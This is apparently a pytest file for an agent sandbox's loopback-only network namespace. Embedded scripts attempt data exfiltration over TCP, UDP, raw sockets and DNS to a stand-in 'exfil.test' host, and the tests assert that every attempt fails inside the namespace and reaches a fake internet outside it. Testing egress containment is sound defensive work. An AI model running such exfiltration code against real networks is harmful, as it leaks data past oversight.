"""The loopback-only layer: a policy that reaches nothing outside gets a namespace with only `lo`.

sandbox/net/rung_lo.py: no veth, no route, no nftables.  Every attack below runs twice:
inside the session's namespace (without the supervisor, so the namespace is judged alone)
where it must fail and reach nothing, and - the control - in landgate's own namespace,
where the same code must reach the fake internet.  Without the namespace the attack tests
therefore fail (the control proves the attack is real).  The allowed twins: the private
loopback, an allowed host loopback port, the DNS view (denied names recorded with the name).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import RecordingServer, require_kernel, require_root, scaled

from sandbox.audit.event import DecisionEvent
from sandbox.host.network import LOOPBACK_ONLY_LAYER
from sandbox.plan.names import reaches_outside
from sandbox.policy import load_policy_text

from .conftest import ADDRS, FakeInet, net_session, run_in_sandbox, wait_for

DENY_ALL = """\
version: 1
actions:
  - action: network
    defaultEffect: deny
"""


def _policy(rules: str, default: str = "deny"):
    text = f"version: 1\nactions:\n  - action: network\n    defaultEffect: {default}\n"
    if rules:
        text += "    rules:\n" + "".join(f"      - {r}\n" for r in rules.split(";"))
    return load_policy_text(text, source="t.yaml", cwd=Path("/tmp"))


@pytest.mark.parametrize(
    "rules",
    [
        "",
        "{ destination: 'localhost:8080', effect: allow }",
        "{ destination: 'localhost', effect: allow }",
        "{ destination: '127.0.0.1:5432', effect: allow }",
        "{ destination: '[::1]:5432', effect: allow }",
        "{ destination: '127.0.0.0/8', effect: allow }",
        "{ destination: 'unix:/run/docker.sock', effect: allow }",
        "{ destination: 'exfil.test', effect: deny };{ destination: '10.0.0.0/8', effect: deny }",
    ],
)
def test_policies_that_reach_nothing_outside(rules: str) -> None:
    assert not reaches_outside(_policy(rules))


@pytest.mark.parametrize(
    ("rules", "default"),
    [
        ("", "allow"),
        ("{ destination: 'allowed.test', effect: allow }", "deny"),
        ("{ destination: '*.npmjs.org', effect: allow }", "deny"),
        ("{ destination: '10.200.1.40', effect: allow }", "deny"),
        ("{ destination: '0.0.0.0/0:443', effect: allow }", "deny"),
        ("{ destination: '126.0.0.0/7', effect: allow }", "deny"),  # covers 127/8 and more
        ("{ destination: '*:443', effect: allow }", "deny"),
        (
            (
                "{ destination: 'localhost:8080', effect: allow };"
                "{ destination: 'x.test', effect: allow }"
            ),
            "deny",
        ),
    ],
)
def test_policies_that_reach_outside_keep_the_full_layer(rules: str, default: str) -> None:
    """The twin: any allow that can match a non-loopback address needs the veth + nftables."""
    assert reaches_outside(_policy(rules, default))


# Each attack prints one word per attempt: "reached" when it got through.
ATTACKS = f"""
import json, socket, errno
from dnslib import DNSRecord
out = {{}}
def attempt(key, fn):
    try:
        fn(); out[key] = "reached"
    except OSError as e:
        out[key] = errno.errorcode.get(e.errno, str(e.errno))
def tcp4():
    s = socket.create_connection(("{ADDRS["exfil"]}", 80), timeout=3); s.close()
def tcp6():
    s = socket.create_connection(("{ADDRS["v6_denied"]}", 80), timeout=3); s.close()
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"LEAK-udp-sendto", ("{ADDRS["exfil"]}", 9999))
def dns():
    q = DNSRecord.question("leak-direct-dns.exfil.test").pack()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, ("{ADDRS["dns"]}", 53)); s.recv(512)
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.sendto(b"\\x30\\x39\\x27\\x0f\\x00\\x14\\x00\\x00LEAK-raw-udp", ("{ADDRS["exfil"]}", 0))
for key, fn in (("tcp4", tcp4), ("tcp6", tcp6), ("udp", udp), ("dns", dns), ("raw", raw)):
    attempt(key, fn)
out["links"] = sorted(n for _, n in socket.if_nameindex())
print(json.dumps(out))
"""


def _leaks(fake: FakeInet, mark: int) -> list[dict]:
    return [
        e
        for e in fake.since(mark)
        if e.get("local") == ADDRS["exfil"]
        or e.get("local") == ADDRS["v6_denied"]
        or "LEAK" in str(e.get("data"))
        or str(e.get("name", "")).startswith("leak-direct")
    ]


def test_attacks_fail_in_the_namespace_and_reach_the_fake_internet_without_it(
    fake_inet: FakeInet,
) -> None:
    require_root()
    events: list[DecisionEvent] = []
    ns = net_session(DENY_ALL, fake_inet, events)
    setup = ns.prepare()
    try:
        assert setup.layer == LOOPBACK_ONLY_LAYER and setup.rung == "netns"
        assert setup.ruleset_json == {"nftables": []}
        mark = fake_inet.mark()
        proc = run_in_sandbox(ns, ATTACKS)
        assert proc.returncode == 0, proc.stderr
        inside = json.loads(proc.stdout)
        # No route: the kernel refuses at once (nothing is sent, nothing to time out).
        assert inside == {
            "tcp4": "ENETUNREACH",
            "tcp6": "ENETUNREACH",
            "udp": "ENETUNREACH",
            "dns": "ENETUNREACH",
            "raw": "ENETUNREACH",
            "links": ["lo"],
        }, inside
        assert not wait_for(lambda: _leaks(fake_inet, mark), timeout=1)
    finally:
        ns.close()
    # The control: the same code in landgate's namespace reaches the fake internet, so
    # it is the namespace that stopped it above.
    mark = fake_inet.mark()
    ctl = subprocess.run(
        [sys.executable, "-c", ATTACKS],
        capture_output=True,
        text=True,
        timeout=scaled(30),
        check=False,
    )
    assert ctl.returncode == 0, ctl.stderr
    outside = json.loads(ctl.stdout)
    assert all(outside[k] == "reached" for k in ("tcp4", "tcp6", "udp", "dns", "raw")), outside
    assert wait_for(lambda: len(_leaks(fake_inet, mark)) >= 4)


def test_dns_view_records_denied_names_and_private_loopback_works(fake_inet: FakeInet) -> None:
    """The allowed twins: the DNS view listens on the sandbox's own 127.0.0.1:53 (denied
    names are NXDOMAIN and recorded with the name, never asked upstream), the private
    loopback carries TCP and UDP, and an allowed host loopback port is forwarded."""
    require_root()
    allowed, denied = RecordingServer(), RecordingServer()
    events: list[DecisionEvent] = []
    policy = DENY_ALL + (
        f"    rules:\n      - {{ destination: 'localhost:{allowed.port}', effect: allow }}\n"
    )
    ns = net_session(policy, fake_inet, events)
    try:
        setup = ns.prepare()
        assert setup.layer == LOOPBACK_ONLY_LAYER
        assert setup.dns_view == "127.0.0.1"
        assert allowed.port in setup.forwarded_loopback_ports
        assert denied.port not in setup.forwarded_loopback_ports
        code = f"""
import socket, threading
out = []
try:
    socket.getaddrinfo("exfil.test", 80, socket.AF_INET)
    out.append("resolved")
except socket.gaierror as e:
    out.append("nxdomain" if e.errno == socket.EAI_NONAME else "gaierror")
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
def serve():
    c, _ = srv.accept(); c.sendall(b"own"); c.close()
threading.Thread(target=serve).start()
c = socket.create_connection(srv.getsockname(), timeout=3); out.append(c.recv(8).decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"dgram", u.getsockname())
u.settimeout(3); out.append(u.recv(8).decode())
for port, msg in (({allowed.port}, b"to-allowed-host"), ({denied.port}, b"LEAK-denied-host")):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=3)
        s.recv(10); s.sendall(msg); s.close(); out.append("host-ok")
    except OSError as e:
        out.append(type(e).__name__)
print(" ".join(out))
"""
        mark = fake_inet.mark()
        proc = run_in_sandbox(ns, code)
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout.split() == [
            "nxdomain",
            "own",
            "dgram",
            "host-ok",
            "ConnectionRefusedError",
        ], proc.stdout
        assert wait_for(lambda: b"to-allowed-host" in bytes(allowed.received))
        assert denied.connections == 0 and b"LEAK" not in bytes(denied.received)
        deny = [e for e in events if e.result == "deny" and e.layer == "dns"]
        assert any(e.target == "exfil.test" for e in deny), events
        assert not any(e.get("kind") == "dns" for e in fake_inet.since(mark))
    finally:
        ns.close()
        allowed.close()
        denied.close()


def test_leaves_no_table_no_veth_no_run_dir(fake_inet: FakeInet) -> None:
    """What the full layer makes and the loopback-only one must not (and close is clean)."""
    require_root()
    from sandbox.net.netns import RUN_DIR

    ns = net_session(DENY_ALL, fake_inet)
    ns.prepare()
    try:
        tag = ns.names.netns
        tables = subprocess.run(
            ["nft", "list", "tables"], capture_output=True, text=True, check=True
        ).stdout
        links = subprocess.run(
            ["ip", "-o", "link"], capture_output=True, text=True, check=True
        ).stdout
        assert tag not in tables and ns.names.host_if not in links
        assert not (RUN_DIR / tag).exists()
    finally:
        ns.close()


# The agent's attacks under the whole sandbox (supervisor + namespace), and its private
# loopback (the allowed twin).  System python3 has no dnslib: the query is packed by hand.
AGENT = """
import errno, socket, struct, threading
def question(name):
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\\0" + struct.pack("!HH", 1, 1)
def tcp():
    socket.create_connection(("EXFIL_IP", 80), timeout=3).close()
def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("EXFIL_IP", 9999))
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(question("leak.exfil.test"), ("DNS_IP", 53)); s.recv(512)
out = []
for fn in (tcp, udp, dns):
    try:
        fn(); out.append("reached")
    except OSError as e:
        out.append(errno.errorcode.get(e.errno, "?"))
try:
    socket.getaddrinfo("exfil.test", 80); out.append("resolved")
except socket.gaierror:
    out.append("nxdomain")
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
def serve():
    c, _ = srv.accept(); c.sendall(b"own:" + c.recv(8)); c.close()
threading.Thread(target=serve, daemon=True).start()
c = socket.create_connection(srv.getsockname(), timeout=5); c.sendall(b"ping")
out.append(c.recv(16).decode())
print(" ".join(out), flush=True)
""".replace("EXFIL_IP", ADDRS["exfil"]).replace("DNS_IP", ADDRS["dns"])


def test_landgate_run_records_every_attempt_and_says_which_layer(world, fake_inet) -> None:
    from conftest import require_kernel
    from launch.lg_helpers import audit_show_json, landgate, py

    from sandbox.host.probe import probe_host

    host = probe_host()
    require_kernel(host.is_root and host.net_ns and host.seccomp_notify, "root, netns, unotify")
    policy = world.write_policy(
        f"""\
version: 1
workspace: {world.workspace}
actions:
  - action: file_read
    defaultEffect: deny
    rules:
      - {{ path: "./**", effect: allow }}
  - action: shell_exec
    defaultEffect: allow
  - action: network
    defaultEffect: deny
"""
    )
    mark = fake_inet.mark()
    p = landgate(world, py(AGENT), policy=policy)
    assert p.returncode == 0, p.stderr
    assert p.stdout.decode().split() == [
        "ECONNREFUSED",
        "ECONNREFUSED",
        "ECONNREFUSED",
        "nxdomain",
        "own:ping",
    ], (p.stdout, p.stderr)
    assert not _leaks(fake_inet, mark)
    entries = audit_show_json(world.root / "xdg")
    (start,) = [e for e in entries if e.get("type") == "session_start"]
    assert start["network_layer"] == LOOPBACK_ONLY_LAYER
    (egress,) = [x for x in start["applied_layers"] if x["name"] == "egress"]
    assert egress["mechanism"] == LOOPBACK_ONLY_LAYER and egress["state"] == "enforced"
    denied = {(e.get("layer"), e.get("target")) for e in entries if e.get("result") == "deny"}
    for target in (f"{ADDRS['exfil']}:80", f"{ADDRS['exfil']}:9999", f"{ADDRS['dns']}:53"):
        assert ("connect", target) in denied, denied
    assert ("dns", "exfil.test") in denied, denied
    # The private loopback is not a denial, and was not reported as one.
    assert not any("127.0.0.1" in str(t) for _, t in denied)


# The unprivileged rung's kernel layer alone: landgate as nobody prepares the session, a
# child makes its user + network namespace as the launcher does (LG_NS_NET), attach()
# has the helper bring `lo` up and hand over the DNS view's sockets, then the child runs
# the attacks.  No supervisor: only the namespace stands between them and the fake internet.
AS_NOBODY = r"""
import ctypes, json, os, sys
from pathlib import Path
from sandbox.net import NetworkSession
from sandbox.net.dnsview import Upstream
from sandbox.policy import load_policy_text
attacks, dns = sys.argv[1], sys.argv[2]
events = []
ns = NetworkSession(load_policy_text("version: 1\n", source="p.yaml", cwd=Path("/tmp")),
                    on_event=events.append, upstream=Upstream(dns))
setup = ns.prepare()
ready_r, ready_w = os.pipe()
go_r, go_w = os.pipe()
out_r, out_w = os.pipe()
pid = os.fork()
if pid == 0:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000) != 0:
        os._exit(3)
    os.write(ready_w, b"x")
    os.read(go_r, 1)
    os.dup2(out_w, 1)
    os.execv(sys.executable, [sys.executable, "-c", attacks])
os.read(ready_r, 1)
ns.attach(pid)
os.write(go_w, b"x")
os.close(out_w)
out = b""
while chunk := os.read(out_r, 65536):
    out += chunk
os.waitpid(pid, 0)
ns.close()
print(json.dumps({"rung": setup.rung, "layer": setup.layer, "out": json.loads(out),
                  "dns_denied": [e.target for e in events if e.result == "deny"]}))
"""

VIEW_QUERY = """
def view():
    q = DNSRecord.question("exfil.test").pack()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, ("127.0.0.1", 53))
    out["view"] = "rcode%d" % DNSRecord.parse(s.recv(512)).header.rcode
view()
print(json.dumps(out))
"""


def _as_nobody(code: str, *args: str) -> subprocess.CompletedProcess[str]:
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    return subprocess.run(
        [*nobody, sys.executable, "-c", code, *args],
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
        capture_output=True,
        text=True,
        timeout=scaled(60),
        check=False,
        cwd="/tmp",
    )


def test_unprivileged_loopback_only_namespace_stops_every_attack(
    fake_inet: FakeInet, tun_root_only: None
) -> None:
    """Without the tun device pasta needs: nobody still gets the loopback-only namespace."""
    require_root()
    from sandbox.host.probe import probe_host

    from .conftest import nobody_rung

    del tun_root_only
    require_kernel(probe_host().user_ns, "unprivileged user namespaces")
    attacks = ATTACKS.replace("print(json.dumps(out))\n", "") + VIEW_QUERY
    mark = fake_inet.mark()
    p = _as_nobody(AS_NOBODY, attacks, ADDRS["dns"])
    assert p.returncode == 0, (p.stdout, p.stderr)
    got = json.loads(p.stdout)
    assert got["rung"] == "userns" and got["layer"] == LOOPBACK_ONLY_LAYER, got
    # A raw socket: the exec'd child (a non-root uid) kept no CAP_NET_RAW; had it, no route.
    assert got["out"].pop("raw") in ("EPERM", "ENETUNREACH"), got
    assert got["out"] == {
        "tcp4": "ENETUNREACH",
        "tcp6": "ENETUNREACH",
        "udp": "ENETUNREACH",
        "dns": "ENETUNREACH",
        "links": ["lo"],
        "view": "rcode3",  # NXDOMAIN from the DNS view on the sandbox's own 127.0.0.1:53
    }, got
    assert got["dns_denied"] == ["exfil.test"]
    assert not wait_for(lambda: _leaks(fake_inet, mark), timeout=1)
    # The control: nobody without the namespace reaches the fake internet (raw sockets
    # need CAP_NET_RAW, which nobody has only inside its own user namespace).
    assert nobody_rung().stdout.split("\n")[0] == "connect-only"  # no tun: no full rung
    mark = fake_inet.mark()
    ctl = _as_nobody(ATTACKS)
    outside = json.loads(ctl.stdout)
    assert all(outside[k] == "reached" for k in ("tcp4", "tcp6", "udp", "dns")), outside
    assert wait_for(lambda: len(_leaks(fake_inet, mark)) >= 4)


RESCAN_AGENT = """
import socket, sys, time
port = int(sys.argv[1])
print("started", flush=True)
deadline = time.monotonic() + 20
while True:
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.recv(10); s.sendall(b"late-listener"); s.close(); print("host-ok", flush=True); break
    except OSError as e:
        if time.monotonic() > deadline:
            print(type(e).__name__, flush=True); break
        time.sleep(0.2)
"""


@pytest.mark.parametrize("rung", ["root", "userns"])
def test_localhost_any_port_forwards_a_listener_that_appears_later(world, rung) -> None:
    """`localhost:*`: the forwarder's rescan binds new listeners in the sandbox's namespace
    (on the unprivileged rung the helper binds them and hands them over)."""
    import socket as pysocket

    from launch.lg_helpers import PY, ROOT

    from sandbox.host.probe import probe_host

    host = probe_host()
    require_kernel(host.is_root and host.net_ns and host.seccomp_notify, "root, netns, unotify")
    as_nobody = rung == "userns"
    if as_nobody:
        require_kernel(host.user_ns, "unprivileged user namespaces")
        os.chmod(world.workspace, 0o777)
    probe = pysocket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    policy = world.write_policy(
        f"""\
version: 1
workspace: {world.workspace}
actions:
  - action: file_read
    defaultEffect: deny
    rules:
      - {{ path: "./**", effect: allow }}
  - action: shell_exec
    defaultEffect: allow
  - action: network
    defaultEffect: deny
    rules:
      - {{ destination: "localhost:*", effect: allow }}
"""
    )
    xdg = world.root / ("xdg-nobody" if as_nobody else "xdg")
    for sub in ("state", "config"):
        (xdg / sub).mkdir(parents=True, exist_ok=True)
        if as_nobody:
            os.chown(xdg, 65534, 65534)
            os.chown(xdg / sub, 65534, 65534)
    cmd = [PY, "-m", "sandbox", "run", "--policy", str(policy), "--"]
    cmd += ["/usr/bin/python3", "-c", RESCAN_AGENT, str(port)]
    if as_nobody:
        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]
    env = {**world.env, "PYTHONPATH": str(ROOT)}
    env.update(XDG_STATE_HOME=str(xdg / "state"), XDG_CONFIG_HOME=str(xdg / "config"))
    proc = subprocess.Popen(
        cmd, cwd=world.workspace, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == b"started"
        late = pysocket.socket()  # appears after the launch: only a rescan forwards it
        late.setsockopt(pysocket.SOL_SOCKET, pysocket.SO_REUSEADDR, 1)
        late.bind(("127.0.0.1", port))
        late.listen(4)
        late.settimeout(scaled(25))
        conn, _ = late.accept()
        try:
            conn.sendall(b"hello")
            got = conn.recv(64)
        except OSError as exc:
            got = repr(exc).encode()
        conn.close()
        late.close()
        out, err = proc.communicate(timeout=scaled(30))
        assert got == b"late-listener", (got, err)
        assert out.split() == [b"host-ok"], (out, err)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
